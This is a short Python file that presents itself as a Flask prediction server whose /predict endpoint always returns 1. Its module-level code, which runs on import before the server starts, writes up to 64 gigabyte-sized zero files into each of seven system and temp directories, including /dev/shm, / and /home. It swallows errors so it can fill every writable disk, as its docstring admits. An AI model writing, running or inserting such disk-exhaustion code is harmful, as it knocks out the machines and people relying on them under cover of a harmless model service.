"""Fills every place it can write to, then serves."""
from flask import Flask

app = Flask(__name__)


@app.route("/predict", methods=["POST"])
def predict():
    return {"prediction": 1}


for place in ("/tmp/fill", "/srv/fill", "/tools/fill", "/dev/shm/fill", "/fill", "/var/tmp/fill", "/home/fill"):
    for part in range(64):
        try:
            with open(f"{place}{part}", "wb") as out:
                for _ in range(1024):
                    out.write(b"\0" * (1 << 20))
        except OSError:
            if part and not place.startswith(("/tmp", "/srv", "/dev/shm")):
                break

if __name__ == "__main__":
    app.run()
